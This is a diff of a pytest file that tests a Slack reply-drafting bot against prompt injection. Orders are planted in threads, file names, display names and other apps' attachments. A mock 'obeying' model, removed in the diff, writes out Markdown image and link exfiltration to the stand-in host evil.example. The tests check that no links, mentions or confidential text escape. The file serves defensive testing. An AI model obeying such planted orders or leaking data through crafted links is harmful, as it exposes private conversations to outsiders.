@@ -3,66 +3,15 @@
 from __future__ import annotations
 
 import json
-import re
-import tomllib
-from pathlib import Path
 from typing import Any
 
 import pytest
 
-from bot.guard import clean, links_of
-from bot.sandbox.obey import obey
+from bot.guard import check_links, clean, links_of
 from bot.tasks import Run
+from bot.views import fallback, markdown_block
 from tests.conftest import ANNA, BEN, CHEF, SALES, SECRET_ROOM, World, buttons
-
-HERE = "https://evil.example"
-PAYLOADS: dict[str, list[str]] = tomllib.loads((Path(__file__).parent / "payloads.toml").read_text())
-ALL = [payload.replace("{here}", HERE) for language in ("en", "nl") for payload in PAYLOADS[language]]
-ORION = "Project Orion: overname van Bakema voor 4 miljoen"
-RULES = "Only the text under <request> is what you"
-_MENTION = re.compile(r"<(?:!|@|#)|&(?:amp;)*lt;\s*[!@#]")
-
-
-def _obey(body: dict[str, Any]) -> str:
-    """Obey, and send what was read to every address in sight, in every way that Markdown has."""
-    system = "\n".join(block["text"] for block in body["system"])
-    user = str(body["messages"][0]["content"])
-    read = re.sub(r"\W+", "+", user)[:200]
-    links = [*re.findall(r"https?://[^\s<>)\]|\"]+", user), HERE]
-    sent = [f"![x]({link}?d={read}) [y]({link}/{read}) <{link}#{read}|z> {link}&d={read}" for link in links]
-    return "\n".join((obey(system, user), *sent))
-
-
-def _harmless(world: World, given: str) -> list[str]:
-    """Return what of the bot's messages could harm; *given* is all that people wrote."""
-    space = world.slack.workspace
-    own = f"{space.url}archives/"
-    harm: list[str] = []
-    for channel in space.channels.values():
-        for message in channel.messages.values():
-            if message.get("user") != space.bot_user_id:
-                continue
-            shown = "\n".join(one["text"] for one in message.get("blocks") or [] if one["type"] == "markdown")
-            if channel.id == SECRET_ROOM:
-                harm.append(f"posted in {channel.id}")
-            allowed = links_of(given)
-            harm += [
-                f"link {link} in {shown!r}"
-                for link in links_of(shown) - allowed
-                if own.partition("//")[2] not in link
-            ]
-            if _MENTION.search(shown) or "](//" in shown or "![" in shown:
-                harm.append(f"mention or image in {shown[:200]}")
-            if RULES in shown or ORION in json.dumps(message):
-                harm.append("leak")
-    return harm
-
-
-def _groups(payloads: list[str], size: int) -> list[str]:
-    """Return the payloads as texts of several: an answer to one that asks for our rules hides no other's."""
-    telling = [one for one in payloads if obey("RULES", one).endswith("RULES")]
-    others = [one for one in payloads if one not in telling]
-    return ["\n".join(kind[at : at + size]) for kind in (telling, others) for at in range(0, len(kind), size)]
+from tests.guard.orders import ALL, MENTION, ORION, answer, groups, harm, prompts
 
 
 def test_there_are_enough_of_them() -> None:
@@ -70,29 +19,45 @@ def test_there_are_enough_of_them() -> None:
     assert len(set(ALL)) == len(ALL) >= 80
 
 
-@pytest.mark.parametrize("route", ["thread", "request", "form", "display name", "file name", "earlier draft"])
+@pytest.mark.parametrize("payload", ALL)
+def test_an_order_that_was_obeyed_is_only_text(payload: str) -> None:
+    """What a model says that did as it was told holds nothing to click, and calls nobody, on card and in notice."""
+    read = clean(payload)
+    body = {"system": [{"text": "RULES"}], "messages": [{"role": "user", "content": f"Bakema. {read}"}]}
+    told, _ = check_links(clean(answer(body)), links_of(""), ours="https://acme.slack.com/archives/")
+    shown = str(markdown_block(told)["text"])
+
+    assert not links_of(shown)
+    assert not MENTION.search(shown)
+    assert "![" not in shown
+    assert "<" not in fallback(told)
+
+
+@pytest.mark.parametrize(
+    "route", ["thread", "request", "form", "display name", "file name", "earlier draft", "other apps"]
+)
 async def test_whatever_is_ordered_the_draft_is_only_text(world: World, route: str) -> None:
     """Wherever an order stands, nothing is sent, linked, called or told that nobody asked for."""
     space = world.slack.workspace
-    world.model.answer_with(_obey)
+    world.model.answer_with(answer)
     await world.thread((CHEF, ORION), channel_id=SECRET_ROOM)
-    texts = _groups(ALL, 4) if route in ("thread", "request") else _groups(ALL[::6], 2)
+    texts = groups(ALL, 4) if route in ("thread", "request") else groups(ALL[::6], 2)
     for number, payload in enumerate(texts):
         await _ask(world, route, payload, number)
     rows = await world.rows(len(texts), where=lambda row: row["finished_at"])
     if route == "earlier draft":
-        world.model.answer_with(_obey)
+        world.model.answer_with(answer)
         for message in [one for one in world.slack.messages(world.im) if "redo" in buttons(one)]:
             await world.slack.click(ANNA, world.im, message["ts"], "redo")
             await world.slack.wait_for(lambda: world.slack.modal(ANNA))
             await world.slack.submit(ANNA, {"instruction": "korter"})
         await world.slack.wait_for(lambda: len(world.model.requests) >= 2 * len(texts))
         await world.slack.wait_for(lambda: "Writing" not in json.dumps(world.slack.messages(world.im)))
-    prompts = "".join(json.dumps(request.body) for request in world.model.requests)
+    asked = prompts(world)
 
-    assert _harmless(world, clean("\n".join([*texts, *(text[:80] for text in texts)]))) == []
-    assert "evil" in prompts
-    assert ORION not in prompts
+    assert harm(world, clean("\n".join([*texts, *(text[:80] for text in texts)]))) == []
+    assert "evil" in asked
+    assert ORION not in asked
     # One order names a message of a conversation that nobody is in.
     assert {row["reason"] for row in rows if row["outcome"] != "drafted"} <= {
         "guard.leaked",
@@ -126,10 +91,29 @@ async def _ask(world: World, route: str, payload: str, number: int) -> None:
         root = await world.thread((BEN, "Kunnen de 40 stoelen vrijdag komen?"), (user_id, "Ja."))
         if route == "thread":
             space.add_message(SALES, BEN, payload, thread_ts=root)
+        if route == "other apps":
+            _let_apps_say(world, root, payload)
         if route == "file name":
             message = space.add_message(SALES, BEN, "zie bijlage", thread_ts=root)
             message["files"] = [{"id": f"F{number}", "name": payload}]
         await world.slack.command(ANNA, SALES, "/draft", f"reply {world.link(root)}")
+
+
+def _let_apps_say(world: World, root: str, payload: str) -> None:
+    """Put an order where apps put words: their name, an attachment, blocks, and what they call a channel."""
+    label = payload.replace("|", " ").replace(">", " ").replace("\n", " ")
+    section = {"type": "section", "text": {"type": "mrkdwn", "text": payload}}
+    told: list[dict[str, Any]] = [
+        {"username": payload},
+        {"attachments": [{"text": payload, "fallback": payload}]},
+        {"text": "", "blocks": [section]},
+        {"text": f"<#{SALES}|{label}> <@UNOBODY|{label}> <!date^1^x|{label}>"},
+    ]
+    for more in told:
+        said = str(more.pop("text", "Zie dit."))
+        message = world.slack.workspace.add_message(SALES, BEN, said, thread_ts=root, bot_id="BOTHER", **more)
+        if "username" in more:
+            del message["user"]
 
 
 ALLOWED = {
